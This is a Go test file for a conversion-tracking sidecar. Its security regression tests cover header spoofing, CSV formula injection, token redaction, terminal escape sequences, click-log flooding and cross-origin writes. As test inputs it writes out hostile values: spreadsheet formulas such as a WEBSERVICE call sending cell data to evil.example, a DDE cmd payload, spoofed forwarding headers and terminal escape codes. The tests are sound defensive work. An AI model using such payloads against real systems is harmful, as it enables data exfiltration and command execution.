package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/glpwinner/glp-sidecar/config"
	"github.com/glpwinner/glp-sidecar/internal/pgtest"
)

// The edge's findings (browser calls, headers, the CSV, redaction, the click
// log, the CLI's output), each against a real sidecar serve.

// No string field may hold a control character: 400 naming the field, and
// nothing stored, on the SQLite file and on PostgreSQL alike.
func TestAControlCharacterInAnyStringFieldIsRefusedNamingItOnEveryStore(t *testing.T) {
	t.Parallel()
	stores := map[string]func(*config.Config){
		"sqlite":   func(c *config.Config) { c.DBPath = filepath.Join(t.TempDir(), "outbox.db") },
		"postgres": func(c *config.Config) { c.DBURL = config.Secret(pgtest.URL(t)) },
	}
	for name, use := range stores {
		t.Run(name, func(t *testing.T) {
			cfg := stackConfig
			cfg.APIURL = serveMockInProcess(t)
			use(&cfg)
			m := serveInProcess(t, cfg)
			public, admin := "http://"+m.PublicAddr(), "http://"+m.AdminAddr()
			for field, body := range map[string]string{
				"conversion_id": `{"glpClickId":"ctl-1","conversion_id":"ORD\u001b[2J"}`,
				"session_token": `{"session_token":"s\u0000t"}`,
				"email":         `{"email":"a@example.com\n"}`,
				"conversionId":  `{"glpClickId":"ctl-1","conversionId":"ORD\u007f"}`,
				"glpClickId":    `{"glpClickId":"ctl\t1"}`,
			} {
				status, out, _ := send(t, "POST", public+"/glp-s2s-conversion", server, body)
				details, _ := out["details"].(map[string]any)
				if status != http.StatusBadRequest || details[field] == nil {
					t.Errorf("%s: %d %v; want 400 naming %s", body, status, out, field)
				}
				if why, _ := details[field].(string); status == http.StatusBadRequest && !strings.Contains(why, "control character") {
					t.Errorf("%s: the answer does not say why: %v", body, details[field])
				}
			}
			if _, out, _ := call(t, "GET", admin+"/admin/api/events?limit=10", "", ""); len(out["events"].([]any)) != 0 {
				t.Errorf("refused bodies stored events: %v", out["events"])
			}
		})
	}
}

// spoofedHeaders are headers a visitor sends to choose the address, scheme,
// host or method an app believes, in the spellings the red team got through
// (underscores, which CGI, PHP, WSGI and Rack read as dashes) and the
// names apps and frameworks believe.
var spoofedHeaders = map[string]string{
	"X_Forwarded_For": "203.0.113.66", "X-Forwarded_For": "203.0.113.66", "X_Real_IP": "203.0.113.66",
	"Client-IP": "203.0.113.66", "X-Client-IP": "203.0.113.66", "True-Client-IP": "203.0.113.66",
	"CF-Connecting-IP": "203.0.113.66", "Fastly-Client-IP": "203.0.113.66", "X-Cluster-Client-IP": "203.0.113.66",
	"X-Real-IP": "203.0.113.66", "Forwarded": "for=203.0.113.66", "X-Forwarded": "for=203.0.113.66",
	"X-Forwarded-Server": "evil.example", "X-Host": "evil.example", "X-Original-Host": "evil.example",
	"X-Original-URL": "/admin", "X-Rewrite-URL": "/admin", "X-HTTP-Method-Override": "DELETE",
	"X-Method-Override": "DELETE", "X-HTTP-Method": "DELETE", "X_Custom": "kept?",
}

// rawRequest sends a request whose header names go out exactly as spelt.
func rawRequest(t *testing.T, c *http.Client, method, u string, headers map[string]string, body url.Values) string {
	t.Helper()
	req, err := http.NewRequest(method, u, strings.NewReader(body.Encode()))
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range headers {
		req.Header[k] = []string{v}
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, u, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

// The proxy passes none of a visitor's client, host or method headers, in
// any spelling, to the app: it learns the visitor's address from the
// X-Forwarded-For the sidecar writes.
func TestTheProxyPassesNoClientHostOrMethodHeaderOfAnUntrustedVisitorInAnySpelling(t *testing.T) {
	t.Parallel()
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		json.NewEncoder(w).Encode(r.Header)
	}))
	t.Cleanup(app.Close)
	cfg := stackConfig
	cfg.APIURL, cfg.DBPath, cfg.AppURL = serveMockInProcess(t), filepath.Join(t.TempDir(), "outbox.db"), app.URL
	m := serveInProcess(t, cfg)
	raw := rawRequest(t, http.DefaultClient, "GET", "http://"+m.PublicAddr()+"/page", spoofedHeaders, nil)
	var got http.Header
	if err := json.Unmarshal([]byte(raw), &got); err != nil {
		t.Fatalf("the app's echo: %q", raw)
	}
	for name := range got {
		n := strings.ToLower(name)
		if strings.ContainsRune(n, '_') || n == "forwarded" || n == "x-forwarded" || strings.Contains(n, "client-ip") ||
			strings.Contains(n, "connecting-ip") || strings.Contains(n, "real-ip") || strings.Contains(n, "host") && n != "x-forwarded-host" ||
			strings.Contains(n, "original") || strings.Contains(n, "rewrite") || strings.Contains(n, "method") || n == "x-forwarded-server" {
			t.Errorf("the app got %s: %v", name, got[name])
		}
	}
	if xff := got.Values("X-Forwarded-For"); len(xff) != 1 || xff[0] != "127.0.0.1" {
		t.Errorf("the app got X-Forwarded-For %q; want only the sidecar's, the visitor's own address", xff)
	}
}

// Behind a real sidecar, the shipped PHP example posts the visitor's
// address as the sidecar saw it, never one the visitor chose in a header
// that PHP reads as X-Forwarded-For (X_Forwarded_For sorts after it, and
// PHP keeps the last).
func TestThePHPExampleBehindTheSidecarSendsNoAddressTheVisitorChose(t *testing.T) {
	t.Parallel()
	needRuntime(t, "php", "apt-get install -y php-cli")
	mockURL := serveMockInProcess(t)
	port := freePort(t)
	appURL := "http://127.0.0.1:" + port
	sc := start(t, serveEnv(t, "GLP_API_URL="+mockURL, "GLP_INGEST_TOKEN="+exampleIngestToken, "GLP_APP_URL="+appURL), "serve")
	urls := sc.urls(t)
	runExample(t, examplesDir(t, "php"), appURL, []string{"SIDECAR_URL=" + urls[0], "GLP_INGEST_TOKEN=" + exampleIngestToken},
		"php", "-S", "127.0.0.1:"+port, "index.php")
	jar, _ := cookiejar.New(nil)
	visitor := &http.Client{Jar: jar, Timeout: 20 * time.Second}
	get200(t, visitor, urls[0]+"/?glp_click_id=php-spoof")
	for i, name := range []string{"X_Forwarded_For", "X-Forwarded_For", "X_FORWARDED_FOR"} {
		answer := rawRequest(t, visitor, "POST", urls[0]+"/signup", map[string]string{name: "203.0.113.66"},
			url.Values{"email": {"spoof@example.com"}, "order": {fmt.Sprint(3001 + i)}})
		m := regexp.MustCompile(`\(event ([0-9a-f-]+)\)`).FindStringSubmatch(answer)
		if m == nil {
			t.Fatalf("sign-up answered %q", answer)
		}
		_, out, _ := call(t, "GET", urls[1]+"/admin/api/events/"+m[1], "", "")
		ev, _ := out["event"].(map[string]any)
		conv, _ := ev["conversion"].(map[string]any)
		if conv == nil || conv["ip"] == "203.0.113.66" {
			t.Errorf("with %s: the PHP example sent the event %v: the address the visitor chose", name, ev)
		}
	}
}

// The reconciliation CSV is safe in a spreadsheet of any locale: every
// field quoted, and no cell, split on , ; | or tab, starts a formula,
// whether a visitor's conversion id or GLP Winner's own ids carried it.
func TestTheCSVStartsNoFormulaWhateverTheSeparatorAndQuotesEveryField(t *testing.T) {
	t.Parallel()
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusCreated)
		io.WriteString(w, `{"status":"ok","conversion_id":"G-1;=HYPERLINK(\"http://evil.example\")","glp_click_id":"c|@SUM(1)"}`)
	}))
	t.Cleanup(up.Close)
	cfg := stackConfig
	cfg.APIURL, cfg.DBPath = up.URL, filepath.Join(t.TempDir(), "outbox.db")
	m := serveInProcess(t, cfg)
	public, admin := "http://"+m.PublicAddr(), "http://"+m.AdminAddr()
	for i, body := range []string{
		`{"glpClickId":"csv-1|=1+1","conversion_id":"ORD-1;=WEBSERVICE(\"http://evil.example/?\"&A1);"}`,
		`{"glpClickId":"csv-2","conversion_id":"x, +cmd|' /C calc'!A0"}`,
		`{"glpClickId":"csv-3","conversion_id":"a| \"-2+3"}`,
	} {
		status, out, _ := send(t, "POST", public+"/glp-s2s-conversion", server, body)
		if status != http.StatusAccepted {
			t.Fatalf("conversion %d: %d %v", i, status, out)
		}
		stackOf(public, admin).settled(t, out["event_id"].(string))
	}
	day := time.Now().UTC().Format("2006-01-02")
	status, _, csvText := get(t, admin+"/admin/api/report/conversions.csv?from="+day+"&to="+day, nil)
	if status != http.StatusOK {
		t.Fatalf("the CSV: %d %s", status, csvText)
	}
	if !strings.Contains(csvText, "WEBSERVICE") || !strings.Contains(csvText, "HYPERLINK") {
		t.Fatalf("the CSV lacks the values under test:\n%s", csvText)
	}
	quoted := regexp.MustCompile(`^"([^"]|"")*"(,"([^"]|"")*")*$`)
	for _, line := range strings.Split(strings.TrimSuffix(csvText, "\n"), "\n") {
		if !quoted.MatchString(line) {
			t.Errorf("a line with a field not quoted: %s", line)
		}
	}
	for _, sep := range []rune{',', ';', '|', '\t'} {
		r := csv.NewReader(strings.NewReader(csvText))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("split on %q: %v", sep, err)
		}
		// A spreadsheet may honour the quotes, or split each line on
		// the separator whatever they say: both ways, no cell may start
		// a formula.
		for _, line := range strings.Split(csvText, "\n") {
			records = append(records, strings.Split(line, string(sep)))
		}
		for _, rec := range records {
			for _, cell := range rec {
				if c := strings.TrimLeft(cell, ` "`); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("split on %q, a cell starts a formula: %q", sep, cell)
				}
			}
		}
	}
}

// stackOf is a stack of a sidecar's two listeners, for its helpers.
func stackOf(public, admin string) stack { return stack{public: public, admin: admin} }

// An upstream that echoes the API token, escaped, in an answer that is not
// one JSON value (trailing text, an HTML page, a body over 64 KiB cut by
// the relay) has it redacted in what the sidecar stores, shows and returns
// to a waiting server call.
func TestAnUpstreamEchoingTheTokenEscapedInAnyAnswerNeverGetsItStoredOrShown(t *testing.T) {
	t.Parallel()
	const token = "tok/1+2=3<&>xyz"
	var esc, escUpper, ref strings.Builder
	for _, r := range token {
		fmt.Fprintf(&esc, `\u%04x`, r)
		fmt.Fprintf(&escUpper, `\u%04X`, r)
		fmt.Fprintf(&ref, "&#x%x;", r)
	}
	pad := strings.Repeat("x", 70<<10)
	answers := map[string]string{
		"trailing": `{"error":"Invalid API token: ` + esc.String() + `"} (request logged)`,
		"html":     `<html><body><p>Invalid token ` + ref.String() + `</p></body></html>`,
		"over64k":  `{"error":"Invalid API token: ` + esc.String() + `","trace":"` + pad + `"}`,
		"json":     `{"error":"Invalid API token: ` + escUpper.String() + `"}`,
	}
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var c struct {
			ID string `json:"conversion_id"`
		}
		json.NewDecoder(r.Body).Decode(&c)
		w.WriteHeader(http.StatusUnprocessableEntity)
		io.WriteString(w, answers[c.ID])
	}))
	t.Cleanup(up.Close)
	cfg := stackConfig
	cfg.APIURL, cfg.DBPath, cfg.APIToken = up.URL, filepath.Join(t.TempDir(), "outbox.db"), config.Secret(token)
	m := serveInProcess(t, cfg)
	public, admin := "http://"+m.PublicAddr(), "http://"+m.AdminAddr()
	leaked := func(where string, v any) {
		t.Helper()
		raw, _ := json.Marshal(v)
		var walk func(any)
		walk = func(v any) {
			switch x := v.(type) {
			case string:
				for _, form := range []string{token, esc.String()[:18], ref.String()[:18]} {
					if strings.Contains(strings.ToLower(x), strings.ToLower(form)) {
						t.Errorf("%s shows the token (as %q): %.300s", where, form, x)
					}
				}
			case map[string]any:
				for _, y := range x {
					walk(y)
				}
			case []any:
				for _, y := range x {
					walk(y)
				}
			}
		}
		var back any
		json.Unmarshal(raw, &back)
		walk(back)
	}
	for id := range answers {
		status, out, _ := send(t, "POST", public+"/glp-s2s-conversion?wait=10s", server, `{"glpClickId":"red-`+id+`","conversion_id":"`+id+`"}`)
		if status != http.StatusUnprocessableEntity {
			t.Fatalf("%s: %d %v", id, status, out)
		}
		leaked(id+": the waiting server call's answer", out)
		_, ev, _ := call(t, "GET", admin+"/admin/api/events/"+out["event_id"].(string), "", "")
		leaked(id+": the admin API", ev)
		if !strings.Contains(fmt.Sprint(ev), "[redacted]") {
			t.Errorf("%s: the stored answer shows no redaction: %v", id, ev)
		}
	}
}

// GLP_API_TOKEN has at least 8 characters: a token of a few would make
// redaction garble every log line and give the token away.
func TestAnAPITokenShorterThan8CharactersIsRefusedAtStartNamingIt(t *testing.T) {
	t.Parallel()
	status, stderr := runToExit(t, serveEnv(t, "GLP_API_TOKEN=t"), "serve")
	if status != 2 || !strings.Contains(stderr, "GLP_API_TOKEN") || !strings.Contains(stderr, "8") {
		t.Errorf("GLP_API_TOKEN=t: exit %d, %q; want 2 naming GLP_API_TOKEN", status, stderr)
	}
}

// A token file that other users can read is taken, with a warning at start
// naming the variable and the file; one only its owner reads gets none.
func TestATokenFileOthersCanReadIsWarnedOfNamingIt(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	open, closed := filepath.Join(dir, "ingest-token"), filepath.Join(dir, "admin-token")
	os.WriteFile(open, []byte("file-ingest-token-0123456789\n"), 0o644)
	os.WriteFile(closed, []byte("file-admin-token-0123456789\n"), 0o640)
	os.Chmod(open, 0o644)   // whatever the umask
	os.Chmod(closed, 0o640) // its group may read it (Kubernetes's fsGroup)
	env := serveEnv(t, "GLP_INGEST_TOKEN_FILE="+open, "GLP_ADMIN_TOKEN_FILE="+closed)
	env = slices.DeleteFunc(env, func(kv string) bool { return strings.HasPrefix(kv, "GLP_INGEST_TOKEN=") })
	c := start(t, env, "serve")
	c.urls(t)
	out := c.stop(t)
	if !strings.Contains(out, "GLP_INGEST_TOKEN_FILE ("+open+") can be read by other users") {
		t.Errorf("no warning naming the readable token file:\n%s", out)
	}
	if strings.Contains(out, closed+")") {
		t.Errorf("a warning for the file only its owner reads:\n%s", out)
	}
}

// A flood of landings from many /64s of one IPv6 /48 fills the click log,
// but the real landings of other ranges (IPv4 /24s, IPv6 /48s), logged
// before it, stay: the log makes room from the range holding the most.
func TestAFloodFromOneSlash48NeverPushesOutOtherRangesLandings(t *testing.T) {
	t.Parallel()
	cfg := stackConfig
	cfg.APIURL, cfg.DBPath = serveMockInProcess(t), filepath.Join(t.TempDir(), "outbox.db")
	cfg.TrustedProxies, cfg.Trusted = []string{"127.0.0.0/8"}, []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	cfg.MaxClicks = 300 // the bound's rule, without 100,000 landings
	m := serveInProcess(t, cfg)
	s := stackOf("http://"+m.PublicAddr(), "http://"+m.AdminAddr())
	land := func(ip, click string) {
		if status, _, _ := get(t, s.public+"/?glp_click_id="+click, visitor(ip, "Mozilla/5.0 real", navigate)); status >= 500 {
			t.Fatalf("landing %s: %d", click, status)
		}
	}
	var real []string
	for i := 0; i < 20; i++ {
		ip := fmt.Sprintf("198.51.%d.7", i)
		if i%2 == 1 {
			ip = fmt.Sprintf("2001:db8:%x::7", 100+i)
		}
		real = append(real, fmt.Sprintf("real-%d", i))
		land(ip, real[i])
	}
	s.settledClicks(t)
	for n := 0; n < 2000; n++ { // 200 /64s of 2001:db8:1::/48, 10 landings each (the per-address burst)
		land(fmt.Sprintf("2001:db8:1:%x::%x", n/10, n%10+1), fmt.Sprintf("flood-%d", n))
	}
	var clicks []map[string]any
	kept := map[string]bool{}
	waitFor(t, func() bool { // the last landing written: the log is at its bound, its length no sign
		clicks, kept = s.clicks(t, 500), map[string]bool{}
		for _, c := range clicks {
			kept[fmt.Sprint(c["glp_click_id"])] = true
		}
		return kept["flood-1999"]
	})
	if len(clicks) > cfg.MaxClicks {
		t.Errorf("%d clicks kept: want at most %d", len(clicks), cfg.MaxClicks)
	}
	for _, id := range real {
		if !kept[id] {
			t.Errorf("the real landing %s was pushed out by the flood of another range", id)
		}
	}
}

// landedCookies lands a visitor (at ip) on click through the public
// listener, as a top-level navigation, waits until the click log has it,
// and returns the cookies the sidecar set, as a Cookie header.
func landedCookies(t *testing.T, s stack, ip, click string) string {
	t.Helper()
	_, header, _ := get(t, s.public+"/?glp_click_id="+click, visitor(ip, "Mozilla/5.0 visitor", navigate))
	var pairs []string
	for _, c := range (&http.Response{Header: header}).Cookies() {
		pairs = append(pairs, c.Name+"="+c.Value)
	}
	waitFor(t, func() bool {
		for _, c := range s.clicks(t, 500) {
			if c["glp_click_id"] == click {
				return true
			}
		}
		return false
	})
	return strings.Join(pairs, "; ")
}

// eventCount is how many events the outbox holds.
func (s stack) eventCount(t *testing.T) int {
	t.Helper()
	_, out, _ := call(t, "GET", s.admin+"/admin/api/events?limit=500", "", "")
	list, _ := out["events"].([]any)
	return len(list)
}

// A browser call is queued only with the visitor's own click id: the
// cookie pair the sidecar set (its signed companion sent along), or a
// landing on that click id from the same address (an IPv6 /64), glp.js's
// reports included, which log the reporter's own address. Anything else is
// 403 naming server calls, stores nothing, and is counted by reason; a
// repeated browser key is answered 202 with an id of its own.
func TestABrowserCallIsQueuedOnlyWithTheVisitorsOwnClickId(t *testing.T) {
	t.Parallel()
	s := startStack(t, "GLP_TRUSTED_PROXIES=127.0.0.0/8", "GLP_LOG_LEVEL=warn", corroborated)
	post := func(ip, cookie, body string) (int, map[string]any) {
		h := visitor(ip, "Mozilla/5.0 visitor", nil)
		if cookie != "" {
			h["Cookie"] = cookie
		}
		status, out, _ := send(t, "POST", s.public+"/glp-s2s-conversion", h, body)
		return status, out
	}
	refused := func(what string, status int, out map[string]any) {
		t.Helper()
		if msg, _ := out["error"].(string); status != http.StatusForbidden || !strings.Contains(msg, "server call") {
			t.Errorf("%s: %d %v; want 403 naming server calls", what, status, out)
		}
	}

	// A stranger: a click id of someone else's, a patient's email, a
	// click-id cookie written by hand.
	status, out := post("203.0.113.9", "", `{"glpClickId":"victim-click","conversion_id":"S-1"}`)
	refused("a stranger's call with someone's click id", status, out)
	status, out = post("203.0.113.9", "", `{"email":"patient@example.com","conversion_id":"S-2"}`)
	refused("a stranger's call with a patient's email", status, out)
	status, out = post("203.0.113.9", "_glp_cid=victim-click", `{"conversion_id":"S-3"}`)
	refused("a stranger's call with a click-id cookie of their own writing", status, out)

	// The visitor who landed: the cookie pair works from another address
	// too (a phone between networks).
	cookies := landedCookies(t, s, "198.51.100.7", "victim-click")
	if !strings.Contains(cookies, "_glp_cid_sig=") {
		t.Fatalf("the landing set %q: want the signed companion cookie", cookies)
	}
	if status, out = post("198.51.100.99", cookies, `{"conversion_id":"V-1","email":"patient@example.com"}`); status != http.StatusAccepted {
		t.Errorf("the visitor's call with the cookies the sidecar set: %d %v", status, out)
	}
	forged := strings.Replace(cookies, "_glp_cid=victim-click", "_glp_cid=other-click", 1)
	status, out = post("203.0.113.9", forged, `{"conversion_id":"S-4"}`)
	refused("a call with the companion cookie of another click id", status, out)
	// The stranger still gets nothing for the victim's click from their address.
	status, out = post("203.0.113.9", "", `{"glpClickId":"victim-click","conversion_id":"S-5"}`)
	refused("a stranger's call after the victim landed", status, out)

	// A landing from the same /64, without cookies (glp.js on another origin).
	landedCookies(t, s, "2001:db8:5:6::1", "v6-click")
	if status, out = post("2001:db8:5:6::2", "", `{"glpClickId":"v6-click","conversion_id":"V-2"}`); status != http.StatusAccepted {
		t.Errorf("a call from the /64 that landed: %d %v", status, out)
	}
	status, out = post("2001:db8:5:7::1", "", `{"glpClickId":"v6-click","conversion_id":"S-6"}`)
	refused("a call from another /64 of the /48", status, out)

	// glp.js's landing report logs the reporter's own address, whatever the
	// body says: it corroborates the reporter's calls, never another's.
	status, out, _ = send(t, "POST", s.public+"/glp-landing", visitor("203.0.113.9", "Mozilla/5.0 stranger", nil),
		`{"glpClickId":"patient-click","ip":"198.51.100.50"}`)
	if status != http.StatusAccepted {
		t.Fatalf("a landing report: %d %v", status, out)
	}
	waitFor(t, func() bool {
		for _, c := range s.clicks(t, 500) {
			if c["glp_click_id"] == "patient-click" {
				return c["ip"] == "203.0.113.9"
			}
		}
		return false
	})
	status, out = post("198.51.100.50", "", `{"glpClickId":"patient-click","conversion_id":"S-7"}`)
	refused("a call from the address a stranger's landing report named", status, out)

	// A repeated browser key: 202 with an id of its own, nothing stored.
	before := s.eventCount(t)
	status, first := post("198.51.100.7", cookies, `{"conversion_id":"V-3"}`)
	_, again := post("198.51.100.7", cookies, `{"conversion_id":"V-3"}`)
	if status != http.StatusAccepted || again["status"] != "queued" || again["event_id"] == first["event_id"] || again["event_id"] == "" {
		t.Errorf("a repeated browser key: %v then %v; want 202 queued with an id of its own", first, again)
	}
	if after := s.eventCount(t); after != before+1 {
		t.Errorf("%d events after a browser call and its repeat, %d before: want one more", after, before)
	}
	if n := s.eventCount(t); n != 3 {
		t.Errorf("%d events stored: want the 3 the visitors' calls made, none of the refused ones", n)
	}
	m := s.metrics(t)
	for _, want := range []string{
		`glp_refused_requests_total{reason="uncorroborated_browser_call"} 6`,
		`glp_refused_requests_total{reason="browser_call_without_click_id"} 1`,
	} {
		if !strings.Contains(m, want) {
			t.Errorf("the metrics lack %s", want)
		}
	}
}

// GLP_BROWSER_CALLS=off refuses every browser call, even the visitor's own,
// and takes server calls; open takes every valid one, as before; another
// value is a configuration error naming the variable.
func TestBrowserCallsOffRefusesEveryBrowserCallAndOpenTakesAny(t *testing.T) {
	t.Parallel()
	off := startStack(t, "GLP_TRUSTED_PROXIES=127.0.0.0/8", "GLP_BROWSER_CALLS=off")
	cookies := landedCookies(t, off, "198.51.100.7", "off-click")
	h := visitor("198.51.100.7", "Mozilla/5.0 visitor", map[string]string{"Cookie": cookies})
	if status, out, _ := send(t, "POST", off.public+"/glp-s2s-conversion", h, `{"conversion_id":"O-1"}`); status != http.StatusForbidden || !strings.Contains(fmt.Sprint(out["error"]), "server call") {
		t.Errorf("off: the visitor's own browser call: %d %v; want 403 naming server calls", status, out)
	}
	if status, out, _ := send(t, "POST", off.public+"/glp-s2s-conversion", server, `{"glpClickId":"off-click","conversion_id":"O-2"}`); status != http.StatusAccepted {
		t.Errorf("off: a server call: %d %v", status, out)
	}
	if !strings.Contains(off.metrics(t), `glp_refused_requests_total{reason="browser_calls_off"} 1`) {
		t.Errorf("off: the refusal is not counted by its reason")
	}
	open := startStack(t, "GLP_TRUSTED_PROXIES=127.0.0.0/8", "GLP_BROWSER_CALLS=open")
	if status, out, _ := send(t, "POST", open.public+"/glp-s2s-conversion", visitor("203.0.113.9", "x", nil), `{"glpClickId":"any-click","conversion_id":"A-1"}`); status != http.StatusAccepted {
		t.Errorf("open: a stranger's browser call: %d %v; want 202", status, out)
	}
	if status, stderr := runToExit(t, serveEnv(t, "GLP_BROWSER_CALLS=sometimes"), "serve"); status != 2 || !strings.Contains(stderr, "GLP_BROWSER_CALLS") {
		t.Errorf("GLP_BROWSER_CALLS=sometimes: exit %d, %q; want 2 naming it", status, stderr)
	}
}

// Whatever the CLI prints shows control characters quoted: GLP Winner's
// values in outbox show and list and in report --csv on a terminal (a
// conversion's own fields can no longer hold one), and a database
// server's error text.
func TestTheCLIPrintsNoControlCharacterRaw(t *testing.T) {
	t.Parallel()
	const evil = "G-\u001b[2J\n{\"level\":\"ERROR\",\"msg\":\"fake\"}"
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusCreated)
		json.NewEncoder(w).Encode(map[string]string{"status": "ok", "conversion_id": evil, "glp_click_id": "clk\u001b]0;owned\u0007"})
	}))
	t.Cleanup(up.Close)
	cfg := stackConfig
	cfg.APIURL, cfg.DBPath = up.URL, filepath.Join(t.TempDir(), "outbox.db")
	m := serveInProcess(t, cfg)
	s := stackOf("http://"+m.PublicAddr(), "http://"+m.AdminAddr())
	_, out, _ := send(t, "POST", s.public+"/glp-s2s-conversion", server, `{"glpClickId":"ctl-1","conversion_id":"C-1"}`)
	id, _ := out["event_id"].(string)
	if ev := s.settled(t, id); ev["state"] != "delivered" {
		t.Fatalf("the event: %v", ev)
	}
	raw := func(what string, b []byte) {
		t.Helper()
		if bytes.ContainsAny(b, "\x1b\x07") || bytes.Contains(b, []byte("\n{\"level\"")) {
			t.Errorf("%s prints control characters raw:\n%q", what, b)
		}
	}
	for _, args := range [][]string{{"outbox", "show", id}, {"outbox", "list"}} {
		b, err := sidecarCmd(t, []string{"GLP_DB_PATH=" + cfg.DBPath}, args...).CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %v %s", args, err, b)
		}
		raw(strings.Join(args, " "), b)
		if args[1] == "show" && !bytes.Contains(b, []byte(`\x1b[2J\n{\"level\"`)) {
			t.Errorf("outbox show does not show GLP Winner's value quoted:\n%s", b)
		}
	}
	if script, err := exec.LookPath("script"); err == nil { // a terminal: script(1) gives the command a pty
		day := time.Now().UTC().Format("2006-01-02")
		bin, self := buildBinary(t)
		cmd := exec.Command(script, "-qec", bin+" report --csv --from "+day+" --to "+day, "/dev/null")
		cmd.Env = append(append(os.Environ(), self...), "GLP_DB_PATH="+cfg.DBPath)
		b, err := cmd.CombinedOutput()
		if err != nil || !bytes.Contains(b, []byte(`\x1b[2J`)) {
			t.Errorf("report --csv on a terminal: %v %q; want GLP Winner's value escaped", err, b)
		}
		raw("report --csv on a terminal", b)
	}
	// A database server's error names the database it was asked for.
	cluster := pgtest.URL(t)
	u, _ := url.Parse(cluster)
	u.Path = "/no\x1b[2Jsuch\x1b]0;owned\x07db"
	b, err := sidecarCmd(t, nil, "report", "--db-url", u.String()).CombinedOutput()
	if err == nil {
		t.Fatalf("report from a database that does not exist: %s", b)
	}
	raw("a database server's error", b)
}

// The mock refuses writes from a page of another origin: a text/plain POST
// needs no preflight, so any site could otherwise reset it or set faults.
func TestTheMockRefusesCrossOriginWrites(t *testing.T) {
	t.Parallel()
	mock := serveMockInProcess(t)
	for _, path := range []string{"/_mock/faults", "/_mock/reset"} {
		for name, h := range map[string]map[string]string{
			"another origin": {"Origin": "http://evil.example", "Content-Type": "text/plain"},
			"another site":   {"Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"},
		} {
			if status, _, body := do(t, "POST", mock+path, h, `{"status":503,"count":-1}`); status != http.StatusForbidden {
				t.Errorf("%s from %s: %d %s; want 403", path, name, status, body)
			}
		}
	}
	if _, _, body := get(t, mock+"/_mock/faults", nil); strings.Contains(body, "503") {
		t.Errorf("a refused write set a fault: %s", body)
	}
	if status, _, body := do(t, "POST", mock+"/_mock/faults", map[string]string{"Origin": mock, "Content-Type": "application/json"}, `{"status":503,"count":1}`); status != http.StatusOK {
		t.Errorf("the mock's own page setting a fault: %d %s", status, body)
	}
}
